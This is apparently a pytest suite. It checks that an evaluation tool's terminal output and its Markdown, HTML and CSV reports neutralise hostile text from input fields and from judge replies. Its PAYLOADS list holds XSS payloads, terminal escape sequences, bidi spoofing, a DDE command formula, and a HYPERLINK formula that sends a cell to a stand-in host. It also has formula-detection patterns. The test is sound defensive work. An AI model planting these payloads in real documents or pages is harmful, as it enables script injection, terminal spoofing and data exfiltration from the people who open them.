"""Hostile text in every field and every reply, through the whole command: nothing steers a terminal, runs in a page or in a spreadsheet."""

import csv
import io
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from pipelines.reports.csv_table import COLUMNS, text_cell
from tests.endpoint import faults
from tests.endpoint.server import Endpoint
from tests.runs.items import Fields, trams, write_items
from tests.runs.running import Bench, command

pytestmark = pytest.mark.faults

SCRIPT = "</script></style><script>document.title='pwned'</script>"
PAYLOADS = {
    "script": SCRIPT,
    "handler": "<img src=x onerror=\"document.title='pwned'\">",
    "attribute": "\" autofocus onfocus=\"document.title='pwned'\" x='",
    "link": "[click](javascript:document.title='pwned') <a href='javascript:1'>x</a>",
    "clear": "\x1b[2J\x1b[H gone",
    "hyperlink": "\x1b]8;;http://evil.invalid\x1b\\click\x1b]8;;\x1b\\",
    "c1": "\x9b2J\x9d0;title\x9c",
    "bidi": "safe\u202etxt.exe\u2066",
    "overwrite": "first\r\x08\x08second\x7f",
    "formula": "=cmd|' /C calc'!A0",
    "import": '=HYPERLINK("http://evil.invalid?"&A1,"x")',
    "table": "| --- |\n# heading\n```\n<!-- -->",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "separator": "a\u2028b\u2029c\x0bd\x0ce\x85f",
}
ALL = " ".join(PAYLOADS.values())
CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    with Endpoint() as endpoint:
        yield Bench(endpoint, tmp_path)


def hostile(text: str, number: int = 1) -> Fields:
    """Return an item that has the text in every field."""
    return {
        "id": f"{text}{number}",
        "question_id": text,
        "agent": text,
        "cluster": text,
        "question": text,
        "answer": f"{text} It rained.",
        "ground_truth": [f"{text} It rained."],
        "propositions": [{"id": text, "text": f"{text} It rained.", "source_quote": text}, "It rained."],
        "sources": [text],
        "gaps": [f"gap {text}"],
        "conflicts": [{"id": text, "current": f"now {text}", "superseded": [f"then {text}"]}],
        "decoys": [f"decoy {text}"],
        "metadata": {text: text},
    }


def results_in(path: Path) -> list[Fields]:
    """Return the objects of a JSON Lines file; only a line feed ends a line."""
    return [json.loads(line) for line in path.read_text(encoding="utf-8").split("\n") if line]


class Page(HTMLParser):
    """Collects what a page would do."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str | None] = []
        self.policies: list[str | None] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.links += [value for name, value in attrs if name in ("href", "src", "action")]
        if ("http-equiv", "Content-Security-Policy") in attrs:
            self.policies.append(dict(attrs)["content"])


def harmless(run: Path, *outputs: str) -> None:
    """Assert that neither what was printed nor any report of a run does anything."""
    for output in outputs:
        assert not CONTROLS.search(output)
    markdown = (run / "report.md").read_text(encoding="utf-8")
    assert not CONTROLS.search(markdown)
    assert "<" not in markdown
    assert "](" not in markdown.replace("\\]", "")
    page = (run / "report.html").read_text(encoding="utf-8")
    assert not CONTROLS.search(page.replace("\t", ""))
    found = Page(page)
    assert not found.elements & {"script", "img", "a", "iframe", "object", "embed", "form", "input", "svg", "link", "base"}
    assert not {name for name in found.attributes if name.startswith("on")} | (found.attributes & {"href", "src", "style", "action"})
    assert found.links == []
    [policy] = found.policies
    assert policy is not None
    assert policy.startswith("default-src 'none'; style-src 'sha256-")


EXPECTED = {"html", "head", "meta", "title", "style", "body"}


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_row38_hostile_fields_do_nothing(name: str, tmp_path: Path) -> None:
    """A payload in every field of an item reaches results unchanged, and terminal, Markdown, HTML and CSV as dead text."""
    path = write_items(tmp_path / "items.jsonl", [hostile(PAYLOADS[name])])
    run = command("score", path, "--judge", "lexical", "--out", tmp_path / "run")
    assert run.returncode in (0, 3), run.stderr
    again = command("report", tmp_path / "run", "--format", "md,html,csv")
    assert again.returncode == 0, again.stderr
    harmless(tmp_path / "run", run.stdout, run.stderr, again.stdout)
    [result] = results_in(tmp_path / "run" / "results.jsonl")
    assert result["item_id"] == f"{PAYLOADS[name]}1"
    table_is_harmless(tmp_path / "run" / "propositions.csv", rows=2)


def table_is_harmless(path: Path, *, rows: int) -> list[dict[str, str]]:
    """Assert that a table is CSV of one line a row in which no cell is a formula or steers anything, and return it."""
    text = path.read_bytes().decode("utf-8")
    assert not CONTROLS.search(text.replace("\r\n", ""))
    assert text.count("\n") == text.count("\r\n") == rows + 1
    found = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert len(found) == rows
    numeric = {"trial", "R_proposition", "C_contradiction", "mark"}
    for row in found:
        assert tuple(row) == COLUMNS
        for column, cell in row.items():
            assert column in numeric or not re.match(r"[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell), (column, cell)
    return found


def test_row38_hostile_replies_do_nothing(bench: Bench) -> None:
    """Rationale, quote, reported model, refusal and error text come from a stranger too."""
    kept = bench.folder / "kept.jsonl"
    items = [{"id": "q1", "answer": f"{ALL} It rained.", "propositions": ["It rained.", f"{ALL} It rained."], "ground_truth": "It rained."}]
    bench.endpoint.script(faults.long_text(ALL), faults.edit_field(lambda _: ALL, "quote"), faults.reported_model(ALL))
    run = command("score", write_items(kept, items), *bench.flags())
    assert run.returncode in (0, 3), run.stderr
    harmless(bench.folder / "run", run.stdout, run.stderr)
    [result] = results_in(bench.folder / "run" / "results.jsonl")
    assert {part["outcome"]["rationale"] for part in result["propositions"]} == {ALL}


@pytest.mark.parametrize(
    "fault",
    [
        pytest.param(faults.refusal(ALL), id="refusal"),
        pytest.param(faults.status(400, ALL), id="error-400"),
        pytest.param(faults.status(401, ALL), id="error-401"),
        pytest.param(faults.status(429, ALL, name="insufficient_quota"), id="quota"),
        pytest.param(faults.label_spelled(lambda _: ALL), id="label"),
        pytest.param(faults.edit_field(lambda _: ALL, "id"), id="id"),
        pytest.param(faults.edit_field(lambda _: ALL, "quote"), id="quote"),
    ],
)
def test_row38_hostile_errors_do_nothing(bench: Bench, fault: faults.Fault) -> None:
    """What an endpoint says of a failure is shown as dead text, in every format and in the JSON on standard output."""
    bench.endpoint.script(fault)
    path = write_items(bench.folder / "items.jsonl", trams(4))
    for flags in ((), ("--json", "--overwrite")):
        run = command("score", path, *bench.flags(), *flags)
        assert run.returncode != 0
        assert run.returncode != 70, run.stderr
        harmless(bench.folder / "run", run.stdout, run.stderr)
    assert json.loads(run.stdout)["complete"] is False


def test_row38_messages_about_hostile_input_do_nothing(tmp_path: Path) -> None:
    """Ids, field names and file names stand in messages, and may not steer the terminal from there."""
    folder = tmp_path / "a\x1b[2Jb\u202e"
    folder.mkdir()
    path = write_items(folder / "in\x1b[31m.jsonl", [{"id": ALL, "answer": None}, {"id": "\x1b[2J", ALL: 1}])
    bad: list[list[str | Path]] = [["score", path, "--judge", "lexical"], ["validate", path], ["score", path.with_name("no\x1b[2J.jsonl")]]
    for arguments in bad:
        run = command(*arguments, cwd=tmp_path)
        assert run.returncode == 2
        assert not CONTROLS.search(run.stdout + run.stderr)
    assert "\\u001b[2J" in run.stderr
    good = write_items(folder / "ok\x1b[31m.jsonl", [hostile(ALL)])
    fine: list[list[str | Path]] = [["validate", good], ["validate", good, "--json"], ["decompose", good, "-o", folder / "p.jsonl"]]
    for more in fine:
        run = command(*more, cwd=tmp_path)
        assert not CONTROLS.search(run.stdout + run.stderr)


def test_row38_the_summary_on_standard_output_is_the_summary(tmp_path: Path) -> None:
    """JSON with spelled-out characters is the same JSON: agents are named as they are."""
    path = write_items(tmp_path / "items.jsonl", [hostile(ALL + "\U000e0041\U0001f600 中文")])
    run = command("score", path, "--judge", "lexical", "--out", tmp_path / "run", "--json")
    assert not CONTROLS.search(run.stdout)
    assert json.loads(run.stdout) == json.loads((tmp_path / "run" / "summary.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1 degree", "'-1 degree"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\t=1"),
        ("\rx", "'\\rx"),
        ("  =1", "'  =1"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20x", "'\uff20x"),
        ("\u22121", "'\u22121"),
        ("1 = 1", "1 = 1"),
        ("plain", "plain"),
        ("", ""),
        ("'", "'"),
        ("a\nb", "a\\nb"),
    ],
)
def test_row38_what_a_spreadsheet_would_run_is_text(text: str, cell: str) -> None:
    """A formula is found behind white space and in wide letters; other texts stay as they are."""
    assert text_cell(text) == cell


def test_row38_the_table_of_a_run(bench: Bench) -> None:
    """One row a proposition, numbers as numbers, unjudged with a reason and without a label, and items without propositions too."""
    bench.endpoint.script(faults.edit_entries(lambda entries: entries[:2]))
    path = write_items(bench.folder / "items.jsonl", [*trams(2), {"id": "bare", "answer": "Yes.", "agent": "@me"}])
    command("score", path, *bench.flags())
    before = {name: (bench.folder / "run" / name).read_bytes() for name in ("report.md", "report.html", "results.jsonl", "summary.json")}
    calls = bench.endpoint.calls()
    done = command("report", bench.folder / "run", "--format", "csv,md,html")
    assert done.stdout.splitlines() == [str(bench.folder / "run" / name) for name in ("propositions.csv", "report.md", "report.html")]
    assert bench.endpoint.calls() == calls
    assert before == {name: (bench.folder / "run" / name).read_bytes() for name in before}
    rows = table_is_harmless(bench.folder / "run" / "propositions.csv", rows=5)
    assert [row["item_id"] for row in rows] == ["tram-1", "tram-1", "tram-2", "tram-2", "bare"]
    assert {(bool(row["label"]), bool(row["reason"])) for row in rows[:4]} <= {(True, False), (False, True)}
    assert rows[-1]["agent"] == "'@me"
    assert (rows[-1]["state"], rows[-1]["text"]) == ("no_propositions", "")
    assert 0 <= float(rows[0]["R_proposition"]) <= 1
    elsewhere = command("report", bench.folder / "run", "--format", "csv", "--out", bench.folder / "elsewhere")
    assert elsewhere.returncode == 0
    assert (bench.folder / "elsewhere" / "propositions.csv").read_bytes() == (bench.folder / "run" / "propositions.csv").read_bytes()
    assert results_in(bench.folder / "run" / "results.jsonl")


def still_running(run: Path) -> None:
    """Leave the folder as a run that was resumed and killed does: the manifest of a run under way beside an old summary."""
    manifest = json.loads((run / "manifest.json").read_text(encoding="utf-8"))
    (run / "manifest.json").write_text(json.dumps({**manifest, "state": "running"}), encoding="utf-8")


@pytest.mark.parametrize(
    ("damage", "said"),
    [
        pytest.param(lambda run: (run / "manifest.json").unlink(), "is not a run folder", id="no-manifest"),
        pytest.param(lambda run: (run / "summary.json").unlink(), "not a finished run", id="no-summary"),
        pytest.param(still_running, "is being written, or was cut off", id="cut-off-after-a-finished-run"),
        pytest.param(lambda run: (run / "results.jsonl").unlink(), "cannot be read", id="no-results"),
        pytest.param(lambda run: (run / "results.jsonl").write_text("{}\n"), "results.jsonl:1: the line is not what", id="edited"),
        pytest.param(lambda run: (run / "results.jsonl").write_text(""), "results.jsonl:1: the line is missing", id="cut"),
    ],
)
def test_row38_a_run_that_cannot_be_rendered_is_refused_in_words(tmp_path: Path, damage: Any, said: str) -> None:
    """A folder that is damaged or no run ends with exit 2 and the file that is at fault."""
    path = write_items(tmp_path / "items.jsonl", trams(1))
    command("score", path, "--judge", "lexical", "--out", tmp_path / "run")
    damage(tmp_path / "run")
    done = command("report", tmp_path / "run", "--format", "csv")
    assert (done.returncode, "Traceback" in done.stderr) == (2, False)
    assert said in done.stderr


@pytest.mark.parametrize("formats", ["junit", "md,pdf", "", ","])
def test_row38_only_what_is_offered_is_rendered(tmp_path: Path, formats: str) -> None:
    """Another format is refused, and the message lists those there are."""
    done = command("report", tmp_path, "--format", formats)
    assert done.returncode == 2
    assert "md, html, csv" in done.stderr


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed; the parsed page is checked without one")
def test_a_browser_runs_nothing(tmp_path: Path) -> None:
    """A real browser shows the page with every payload and keeps its title."""
    assert CHROMIUM is not None
    path = write_items(tmp_path / "items.jsonl", [hostile(text, number) for number, text in enumerate(PAYLOADS.values())])
    command("score", path, "--judge", "lexical", "--out", tmp_path / "run")
    page = (tmp_path / "run" / "report.html").as_uri()
    flags = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=2000"]
    done = subprocess.run([CHROMIUM, *flags, "--dump-dom", page], capture_output=True, text=True, timeout=100, check=False)
    title = re.search("<title>(.*?)</title>", done.stdout)
    assert title is not None
    assert title[1] == "Run run"
